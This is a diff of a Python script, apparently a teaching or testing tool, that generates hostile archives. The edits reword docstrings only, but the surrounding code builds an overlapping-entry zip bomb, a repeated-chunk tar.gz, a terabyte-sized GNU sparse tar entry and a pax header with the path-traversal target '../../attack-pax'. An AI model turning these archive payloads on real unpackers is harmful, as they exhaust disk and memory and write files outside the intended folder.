@@ -1,4 +1,4 @@
-"""Makes an archive that is to do harm when it is unpacked: archive.py KIND name=NAME folder=FOLDER, in the class."""
+"""Makes an archive that attacks when it is unpacked, in the class: archive.py KIND name=NAME folder=FOLDER"""
 
 import gzip
 import io
@@ -18,7 +18,7 @@ with open(os.path.join(os.path.dirname(__file__), "stranger.py"), "rb") as file:
 
 
 def zipped(*entries, kind=zipfile.ZIP_DEFLATED):
-    """Entries are names, or names with content and mode."""
+    """Makes a zip. Entries are names, or names with content and mode."""
     with zipfile.ZipFile(NAME + ".zip", "w", kind) as out:
         for entry in ("bot.py", *entries):
             name, data, mode = entry if isinstance(entry, tuple) else (entry, BOT, 0o100644)
@@ -52,7 +52,7 @@ def raw_zip(name, change):
 
 
 def overlapping():
-    """Many entries of one stream of zeros, as in "A better zip bomb": 100 GiB in 200 kB."""
+    """Many entries share one stream of zeros, as in "A better zip bomb": 100 GiB in 200 kB."""
     body, zeros = zlib.compressobj(9, zlib.DEFLATED, -15), bytes(64 << 20)
     data, check = body.compress(zeros) + body.flush(), zlib.crc32(zeros)
     header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, check, len(data), 64 << 20, 1, 0) + b"x" + data
@@ -73,7 +73,7 @@ def lies_about_sizes():
 
 
 def packed(header, length, end):
-    """A tar of one entry that is long: the same piece of a compressed file again and again."""
+    """A tar with one long entry, which repeats the same piece of a compressed file."""
     piece = 16 << 20
     with open(NAME + ".tar.gz", "wb") as file:
         file.write(gzip.compress(header.tobuf()) + gzip.compress(b"x" * piece) * (length // piece) + gzip.compress(end))
@@ -92,7 +92,7 @@ def bomb():
 
 
 def hollow():
-    """A sparse file of GNU tar that says that it is a terabyte."""
+    """A sparse file of GNU tar with a size of a terabyte."""
     info = tarfile.TarInfo("hole")
     info.type, info.size = tarfile.GNUTYPE_SPARSE, 0
     block = bytearray(info.tobuf(format=tarfile.GNU_FORMAT))
@@ -104,7 +104,7 @@ def hollow():
 
 
 def longer_path():
-    """A header of pax that gives a harmless entry another path."""
+    """A pax header that gives a harmless entry another path."""
     with tarfile.open(NAME + ".tar", "w", format=tarfile.PAX_FORMAT) as out:
         info = tarfile.TarInfo("bot.py")
         info.size, info.pax_headers = len(BOT), {"path": "../../attack-pax"}
